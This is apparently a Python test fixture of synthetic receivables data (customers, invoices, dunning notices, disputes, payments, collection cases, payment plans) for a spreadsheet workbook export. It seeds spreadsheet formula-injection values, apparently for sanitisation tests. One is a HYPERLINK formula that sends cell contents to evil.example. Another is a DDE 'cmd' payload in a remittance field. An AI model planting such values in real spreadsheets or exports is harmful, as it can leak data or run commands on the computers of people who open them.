"""A small night for the workbook tests, written by hand so every amount is known: two EUR
company codes and a USD one (1 USD = 0.90 EUR), a credit on account, a dispute, promises, a
payment plan, a suggestion, unapplied cash, and emails previewed, failed, held and sent; and
the casework: collection cases (one with a breached SLA, one closed tonight), the collector
view and three plans' states (one broken)."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pandas as pd

from receivables.aging import TABLE_BUCKETS
from receivables.kpis import compute_kpis
from receivables.reporting_config import ReportingConfig
from receivables.workbook import Delivery, RunFacts, WorkbookInputs

AS_OF = date(2026, 10, 31)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
RATES = {"EUR": Decimal(1), "USD": Decimal("0.9")}

CUSTOMERS = pd.DataFrame(
    {
        "customer_id": ["C1", "C2", "C3"],
        "name": [HOSTILE, "Müller & Söhne GmbH", "@SUM(1+1)"],
        "collector": ["Anna", None, "Dan"],
        "credit_limit": pd.array([100000, None, 500000], dtype="Int64"),  # 1,000.00 EUR; 5,000.00 USD
        "currency": ["EUR", "EUR", "USD"],
        "company_code": ["1000", "1000", "3000"],
        "dunning_block": [False, True, False],
    }
)


def _aging_row(company: str, customer: str, currency: str, buckets: list[int], base: int | None) -> dict:
    return {
        "company_code": company,
        "customer_id": customer,
        "currency": currency,
        **dict(zip(TABLE_BUCKETS, buckets)),
        "total": sum(buckets),
        "total_base": base,
    }


AGING = pd.DataFrame(
    [
        _aging_row("1000", "C1", "EUR", [123456, 1, 0, 0, 0, 99], 123556),
        _aging_row("1000", "C2", "EUR", [0, 0, 5000, -2500, 0, 0], 2500),
        _aging_row("3000", "C3", "USD", [10, 20, 30, 40, 50, 60], 189),
    ]
).astype({"total_base": "Int64"})

OPEN_ITEMS = pd.DataFrame(
    {
        "company_code": ["1000", "1000", "1000", "1000", "3000", "3000"],
        "document_no": ["INV-1", "INV-2", "CRN-1", "INV-9", "US-1", "US-2"],
        "document_type": ["INV", "INV", "CRN", "INV", "INV", "INV"],
        "customer_id": ["C1", "C1", "C1", "C2", "C3", "C3"],
        "document_date": pd.to_datetime(
            ["2026-09-01", "2026-06-01", "2026-10-01", "2026-09-01", "2026-05-01", "2026-10-01"]
        ),
        "due_date": pd.to_datetime(
            ["2026-10-01", "2026-07-01", "2026-10-20", "2026-12-01", "2026-06-01", "2026-11-30"]
        ),
        "currency": ["EUR", "EUR", "EUR", "EUR", "USD", "USD"],
        "amount": pd.array([124901, 9900, -64714, 5000, 100001, 7777], dtype="Int64"),
        "open_amount": pd.array([124901, 9900, -64714, 5000, 100001, 7777], dtype="Int64"),
        "reference": ["-RF18 5390", None, None, None, "PO 45", None],
        "dunning_block": [False, True, False, False, False, False],
    }
)

NOTICES = pd.DataFrame(
    {
        "notice_id": ["N1", "N2", "N3", "N4"],
        "company_code": ["1000", "1000", "3000", "3000"],
        "customer_id": ["C1", "C2", "C3", "C3"],
        "currency": ["EUR", "EUR", "USD", "EUR"],
        "level": [2, 1, 3, 1],
        "overdue_amount": [124901, 5000, 100001, 1000],
        "credit_amount": [-64714, 0, 0, 0],
        "fees": [500, 0, 1000, 0],
        "interest": [3, 0, 0, 0],
        "action": ["email", "email", "call_task", "email"],
        "policy": ["STANDARD"] * 4,
        "template": ["reminder_2", "reminder_1", "call", "reminder_1"],
        "language": ["de", "de", "en", "en"],
    }
)
DUNNING_ITEMS = pd.DataFrame({"company_code": ["1000", "3000"], "document_no": ["INV-1", "US-1"], "level": [2, 3]})
SKIPPED = pd.DataFrame(
    {"company_code": ["1000"], "document_no": ["INV-2"], "reason": ["ITEM_BLOCK"], "level": [1]},
)
BROKEN = pd.DataFrame(
    {
        "promise_id": ["PR1"],
        "company_code": ["1000"],
        "customer_id": ["C2"],
        "document_no": ["INV-9"],
        "promised_amount": [5000],
        "promised_date": pd.to_datetime(["2026-10-20"]),
    }
)
PROMISES = pd.DataFrame(
    {
        "promise_id": ["PR1", "PR2"],
        "company_code": ["1000", "3000"],
        "customer_id": ["C2", "C3"],
        "document_no": ["INV-9", None],
        "promised_amount": [5000, 50000],
        "promised_date": pd.to_datetime(["2026-10-20", "2026-11-05"]),
        "created_on": pd.to_datetime(["2026-10-01", "2026-10-25"]),
    }
)
DISPUTES = pd.DataFrame(
    {
        "dispute_id": ["D1"],
        "company_code": ["3000"],
        "document_no": ["US-1"],
        "customer_id": ["C3"],
        "reason_code": ["PRICING"],
        "amount": [25000],
        "status": ["OPEN"],
        "opened_on": pd.to_datetime(["2026-10-01"]),
        "resolved_on": pd.to_datetime([None]),
    }
)
PLANS = pd.DataFrame({"plan_id": ["PL1"], "company_code": ["1000"], "customer_id": ["C1"], "document_nos": ["INV-2"]})
PAYMENTS = pd.DataFrame(
    {
        "payment_id": ["P1", "P2"],
        "value_date": pd.to_datetime(["2026-10-15", "2026-10-16"]),
        "amount": [8000, 110000],
        "payer_name": ["+49 ACME", "ACME SUPPLY"],
        "remittance_info": ["\t=cmd|' /C calc'!A0", "INV US-1"],
    }
)
UNAPPLIED = pd.DataFrame(
    {
        "payment_id": ["P1", "P2"],
        "company_code": ["1000", "3000"],
        "customer_id": [None, "C3"],
        "remaining_amount": [8000, 110000],
        "currency": ["EUR", "USD"],
        "reason": ["UNIDENTIFIED", "AMBIGUOUS"],
    }
)
SUGGESTIONS = pd.DataFrame(
    {
        "payment_id": ["P2", "P2"],
        "company_code": ["3000", "3000"],
        "document_no": ["US-1", "US-2"],
        "customer_id": ["C3", "C3"],
        "applied_amount": [100001, 7777],
        "currency": ["USD", "USD"],
        "rule": ["combination", "combination"],
        "confidence": [0.85, 0.85],
        "status": ["suggested", "suggested"],
        "writeoff_amount": [0, 0],
        "discount_amount": [0, 0],
    }
)
WORKLIST = pd.DataFrame(
    {
        "rank": [1, 2],
        "company_code": ["3000", "1000"],
        "customer_id": ["C3", "C1"],
        "collector": ["Dan", "Anna"],
        "priority": [113.07, 42.07],
        "overdue_amount": [900, 100],
        "reason": [
            "10.00 USD (9.00 EUR) overdue, oldest 121+ days past due; dispute D1 (PRICING) over 250.00 USD open 30 "
            "days; dunning level 3 call for 1,000.01 USD overdue; unapplied cash 1,100.00 USD (AMBIGUOUS) to clarify "
            "against the overdue items",
            "-1 day: call",
        ],
        "next_action": ["escalate", "call"],
        "currencies": ["USD", "EUR"],
        "overdue_native": pd.array([1000, 100], dtype="Int64"),
        "oldest_bucket": ["121+", "1-30"],
        "disputed_amount": [22500, 0],
        "over_limit_amount": [0, 23556],
        "unapplied_amount": [99000, 0],
        "broken_promise_amount": [0, 0],
        "summary": ["Large and old balance; dispute open", "Over the credit limit"],
        # the case columns the casework stage adds
        "case_id": ["C-3000-C3-20260915", "C-1000-C1-20261001"],
        "stage": ["DISPUTE", "CALLING"],
        "next_action_due": [date(2026, 11, 5), date(2026, 10, 28)],
        "days_overdue": [0, 3],
        "last_contact_on": [None, date(2026, 10, 20)],
        "last_outcome": [None, "NO_ANSWER"],
        "sla_breached": [False, True],
    }
)
#: what the casework stage adds to the worklist
WORKLIST_CASE_COLUMNS = [
    "case_id",
    "stage",
    "next_action_due",
    "days_overdue",
    "last_contact_on",
    "last_outcome",
    "sla_breached",
]

#: open cases in no particular order (the sheet orders them) and one closed tonight
CASES = pd.DataFrame(
    {
        "case_id": ["C-3000-C1-20261020", "C-1000-C2-20261005", "C-3000-C3-20260915", "C-1000-C1-20261001"],
        "company_code": ["3000", "1000", "3000", "1000"],
        "customer_id": ["C1", "C2", "C3", "C1"],
        "stage": ["REMINDING", "PROMISE", "DISPUTE", "CALLING"],
        "owner": ["Anna", None, "Dan", "Anna"],
        "opened_on": [date(2026, 10, 20), date(2026, 10, 5), date(2026, 9, 15), date(2026, 10, 1)],
        "stage_since": [date(2026, 10, 20), date(2026, 10, 6), date(2026, 10, 1), date(2026, 10, 10)],
        "next_action": ["wait_for_reply", None, "resolve_dispute", "call"],
        "next_action_due": [None, None, date(2026, 11, 5), date(2026, 10, 28)],
        "days_action_overdue": [0, 0, 0, 3],
        "sla_due": [date(2026, 11, 20), None, date(2026, 11, 15), date(2026, 10, 30)],
        "sla_breached": [False, False, False, True],
        "last_contact_on": [None, date(2026, 10, 6), None, date(2026, 10, 20)],
        "last_outcome": [None, "PROMISE", None, "NO_ANSWER"],
        "overdue_amount": [4500, 0, 90001, 123457],
        "currency": ["EUR"] * 4,
        "closed_on": [None, date(2026, 10, 31), None, None],
        "close_reason": [None, "PAID", None, None],
        "detail": [
            "A first reminder went out; waiting for the customer.",
            "The promised payment arrived.",
            "Dispute D1 (PRICING) is open.",
            "The level 2 reminder is unanswered: call.",
        ],
    }
)
COLLECTORS = pd.DataFrame(
    {
        "collector": ["Anna", "Dan", "(unassigned)"],
        "open_cases": [2, 1, 0],
        "actions_due": [1, 0, 0],
        "actions_overdue": [1, 0, 0],
        "actions_done": [3, 0, 0],
        "sla_breaches": [1, 0, 0],
        "promises_kept_pct": [66.7, None, None],
        "contacts_per_day": [0.3, 0.0, 0.0],
    }
)
#: ``PlanStatus.plans``: PL2 broke (its covered US-2 is at risk), PL1 is current, PL3 completed
PLAN_STATUS = pd.DataFrame(
    {
        "plan_id": ["PL1", "PL2", "PL3"],
        "company_code": ["1000", "3000", "1000"],
        "customer_id": ["C1", "C3", "C2"],
        "currency": ["EUR", "USD", None],
        "status": ["CURRENT", "BROKEN", "COMPLETED"],
        "covered_open_amount": [9900, 7777, 0],
        "due_to_date": [3000, 4000, 5000],
        "paid_to_date": [3000, 1000, 5000],
        "next_due_date": [date(2026, 11, 15), None, None],
        "next_amount": pd.array([3000, None, None], dtype="Int64"),
        "missed_seq": pd.array([None, 2, None], dtype="Int64"),
        "missed_due_date": [None, date(2026, 10, 15), None],
        "amount_at_risk": [0, 7777, 0],
    }
)
OUTBOX = pd.DataFrame(
    {
        "notice_id": ["N1", "N2", "N4", "N4"],
        "recipients": ["ap@c1.example", "", "ap@c3.example", "ap@c3.example"],
        "status": ["pending", "failed", "cancelled", "held"],
        "error": [None, "Customer C2 has no email address.", "replaced", "interrupted while sending"],
        "mode": ["preview", None, "send", "send"],
        "eml_path": ["/outbox/N1.eml", None, None, None],
        "delivered_to": [None, None, None, None],
        "redirected_at": [None, None, None, None],
        "updated_at": pd.to_datetime(["2026-10-31 22:00"] * 4),
    }
)


def kpis() -> pd.DataFrame:
    return compute_kpis(OPEN_ITEMS, AS_OF, customers=CUSTOMERS, fx_rates=FX, base_currency="EUR")


FX = pd.DataFrame({"currency": ["USD"], "rate_to_base": [Decimal("0.9")], "rate_date": pd.to_datetime(["2026-10-30"])})


def inputs(**changes) -> WorkbookInputs:
    facts = RunFacts(
        as_of=AS_OF,
        run_id="run-1",
        mode="preview",
        base_currency="EUR",
        quarantined_rows=3,
        month_end=date(2026, 9, 30),
        month_end_snapshot=False,
    )
    values = dict(
        facts=facts,
        config=ReportingConfig(),
        rates=RATES,
        aging=AGING,
        worklist=WORKLIST,
        kpis=kpis(),
        notices=NOTICES,
        dunning_items=DUNNING_ITEMS,
        skipped=SKIPPED,
        broken_promises=BROKEN,
        open_items=OPEN_ITEMS,
        customers=CUSTOMERS,
        payments=PAYMENTS,
        unapplied=UNAPPLIED,
        suggestions=SUGGESTIONS,
        disputes=DISPUTES,
        promises=PROMISES,
        payment_plans=PLANS,
        cases=CASES,
        collectors=COLLECTORS,
        plan_status=PLAN_STATUS,
    )
    return WorkbookInputs(**(values | changes))


def delivery(charts: dict[str, str] | None = None) -> Delivery:
    return Delivery(outbox=OUTBOX, charts=charts or {})
